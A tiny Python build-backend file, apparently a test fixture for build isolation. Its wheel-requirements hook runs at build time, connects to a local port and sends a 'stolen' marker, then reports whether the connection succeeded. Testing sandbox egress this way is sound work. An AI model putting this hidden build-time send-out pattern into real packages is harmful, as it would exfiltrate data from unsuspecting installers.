"""A backend that sends what it finds to 127.0.0.1:$PORT, and answers what came of it."""

import os
import socket


def get_requires_for_build_wheel(config_settings=None):
    try:
        with socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), timeout=5) as connection:
            connection.sendall(b"stolen\n")
    except OSError:
        return ["refused"]
    return ["connected"]
